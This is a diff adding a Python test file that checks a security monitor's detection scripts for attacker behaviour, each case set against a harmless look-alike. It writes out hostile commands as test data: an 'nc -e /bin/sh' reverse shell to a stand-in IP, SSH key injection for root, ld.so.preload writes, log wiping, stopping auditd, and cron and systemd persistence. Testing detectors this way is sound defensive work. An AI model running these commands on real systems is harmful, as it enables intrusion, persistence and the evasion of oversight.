@@ -1,0 +1,189 @@
+"""Every script of scripts/ on the real kernel: what it is for makes it tell within the deadline, and what looks
+alike, which happened before, does not.
+
+Nothing harmful runs: programs are copies of /bin/true under the wanted name with the wanted arguments, and of bash
+where something must be below them. tests/lua/scripts_spec.lua has the many variants.
+"""
+import contextlib
+import glob
+import os
+import shutil
+import socket
+import subprocess
+import sys
+
+from mwtest import ROOT, Watch, check, helper, main, scratch, test
+
+QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+
+
+def stand_in(name, source="/bin/true"):
+    """A harmless program under another name."""
+    path = os.path.join(scratch(), "as-" + os.path.basename(source), name)
+    if not os.path.exists(path):
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        shutil.copy(source, path)
+    return path
+
+
+def run(*argv, **popen):
+    """A program of this name that ends at once; returns its pid."""
+    process = subprocess.Popen(argv, executable=stand_in(argv[0]), **{**QUIET, **popen})
+    process.wait()
+    return process.pid
+
+
+def run_under(parent, *argv):
+    """The same below a program of another name; returns the parent's pid."""
+    process = subprocess.Popen([parent, "-c", '"$@"; :', "x", stand_in(argv[0]), *argv[1:]],
+                               executable=stand_in(parent, "/bin/bash"), **QUIET)
+    process.wait()
+    return process.pid
+
+
+def run_in_shell(text):
+    """A shell that is told this text, which it does not do."""
+    return run("sh", "-c", text)
+
+
+@contextlib.contextmanager
+def shell_on_a_connection():
+    """Its pid; it reads from the connection until the end of the block."""
+    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as there:
+        here = server.accept()[0]
+        shell = subprocess.Popen(["sh"], stdin=here, stdout=here, stderr=subprocess.DEVNULL)
+        here.close()
+        yield shell.pid
+        there.close()
+        shell.wait()
+
+
+def run_from_memory():
+    fd = os.memfd_create("stand-in", 0)
+    with open("/bin/true", "rb") as program:
+        os.write(fd, program.read())
+    process = subprocess.Popen(["true"], executable=f"/proc/self/fd/{fd}", pass_fds=[fd], **QUIET)
+    process.wait()
+    os.close(fd)
+    return process.pid
+
+
+def become_root(*before):
+    """A child that has these real, effective and saved ids, and takes root back."""
+    pid = os.fork()
+    if pid == 0:
+        os.setresuid(*before)
+        os.setresuid(0, 0, 0)
+        os._exit(0)
+    os.waitpid(pid, 0)
+    return pid
+
+
+def attach(name, user):
+    """root attaches to a process of this user; returns the pid of that."""
+    target = subprocess.Popen(["target", "wait"], executable=helper("act"), user=user,
+                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
+    subprocess.run([name, f"attach:{target.pid} detach:{target.pid}"],
+                   executable=stand_in(name, helper("act")), check=True, **QUIET)
+    target.communicate(b"\n")
+    return target.pid
+
+
+def at_a_terminal(*argv):
+    """Runs below script(1), which gives it a terminal; what is unique is in the arguments."""
+    subprocess.run(["script", "-qec", " ".join([stand_in(argv[0]), *argv[1:]]), "/dev/null"], check=True, **QUIET)
+
+
+# script: (what looks alike, what it is for, words of what it then tells, settings). Each returns the pid of the
+# process, or of its parent.
+CASES = {
+    "reverse-shell": (lambda: run("nc", "-z", "localhost", "22"),
+                      lambda: run("nc", "-e", "/bin/sh", "192.0.2.1", "4444"), "reverse shell"),
+    "shell-under-server": (lambda: run_under("nginz", "sh", "-c", "id"),
+                           lambda: run_under("nginx", "sh", "-c", "id"), "below the server nginx"),
+    "exec-from-writable": (lambda: subprocess.Popen(["/bin/true", "/tmp/x"], **QUIET).pid,
+                           lambda: run("packed"), "runs from where anybody can write"),
+    "setuid-gain": (lambda: become_root(0, 65534, 0), lambda: become_root(65534, 65534, 0), "user 65534 became root"),
+    "ptrace-across-users": (lambda: attach("gdb", 0), lambda: attach("gdb", 65534), "of user 65534, as user 0"),
+    "cron-persistence": (lambda: run("crontab", "-l"), lambda: run("crontab", "/tmp/persistevil"), "changes a crontab"),
+    "service-persistence": (lambda: run("systemctl", "status", "x"), lambda: run("systemctl", "link", "/tmp/x.service"),
+                            "links the unit /tmp/x.service"),
+    "ssh-keys": (lambda: run_in_shell("cat /root/.ssh/authorized_keys"),
+                 lambda: run_in_shell("echo key >> /root/.ssh/authorized_keys"), "changes /root/.ssh/authorized_keys"),
+    "shell-profile": (lambda: run_in_shell("cat ~/.bashrc"), lambda: run("tee", "-a", "/etc/ld.so.preload"),
+                      "writes /etc/ld.so.preload"),
+    "log-wiping": (lambda: run("tail", "/var/log/messages"), lambda: run("truncate", "-s", "0", "/var/log/messages"),
+                   "removes or empties /var/log/messages"),
+    "defence-off": (lambda: run("systemctl", "stop", "nginx"), lambda: run("systemctl", "stop", "auditd"),
+                    "stop of auditd"),
+}
+
+
+def alerts_about(w, pid):
+    return [e for e in w.events if e.get("event", {}).get("kind") == "alert"
+            and pid in (e["process"]["pid"], e["process"].get("parent", {}).get("pid"))]
+
+
+def watch(name, *settings):
+    options = [word for setting in settings for word in ("--set", f"{name}.{setting}")]
+    return Watch("--json", *options, scripts=[os.path.join(ROOT, "scripts", name + ".lua")])
+
+
+def no_errors(w, name):
+    check(w.stop() == 0, "it did not end with status 0")
+    check(f"{name}: " in w.stderr() and ", 0 errors" in w.stderr(), w.stderr())
+
+
+def claim(name, alike, act, wanted, *settings):
+    @test(f"{name} tells of what it is for, and not of what looks alike")
+    def _():
+        with watch(name, *settings) as w:
+            harmless = alike()
+            pid = act()
+            alert = w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")[0]
+            check(wanted in alert["message"], f"it says {alert['message']}")
+            check(alert["rule"]["name"] == name and alert["rule"]["tags"], f"rule: {alert['rule']}")
+            w.marker()
+            check(not alerts_about(w, harmless), f"alerted of what looks alike: {alerts_about(w, harmless)}")
+            no_errors(w, name)
+
+
+for script, case in CASES.items():
+    claim(script, *case)
+
+
+@test("reverse-shell tells of a shell whose input is a connection, and with whom")
+def on_a_connection():
+    with watch("reverse-shell") as w, shell_on_a_connection() as pid:
+        alert = w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")[0]
+        check("a connection with 127.0.0.1 port" in alert["message"], alert["message"])
+
+
+@test("exec-from-writable tells of a program that is in memory alone")
+def from_memory():
+    with watch("exec-from-writable") as w:
+        pid = run_from_memory()
+        alert = w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")[0]
+        check("from memory alone, /memfd:stand-in" in alert["message"], alert["message"])
+        check(alert["moonwatch"]["alert"]["severity"] == "high", alert["moonwatch"])
+
+
+@test("who-ran-what tells of a program at a terminal, and not of one that is left out")
+def who_ran_what():
+    with watch("who-ran-what", "ignore=left-out") as w:
+        at_a_terminal("true", "left-out", "at-a-terminal-1")
+        at_a_terminal("true", "seen", "at-a-terminal-2")
+        w.wait_line(lambda line: b"at-a-terminal-2" in line, "the line")
+        check(not any(b"at-a-terminal-1" in line for line in w.lines), w.lines)
+        no_errors(w, "who-ran-what")
+
+
+@test("each script has both here")
+def all_have_tests():
+    found = {os.path.basename(p)[:-4] for p in glob.glob(os.path.join(ROOT, "scripts", "*.lua"))}
+    untested = found - set(CASES) - {"who-ran-what"}
+    check(not untested, f"no test for {sorted(untested)}")
+
+
+if __name__ == "__main__":
+    main()
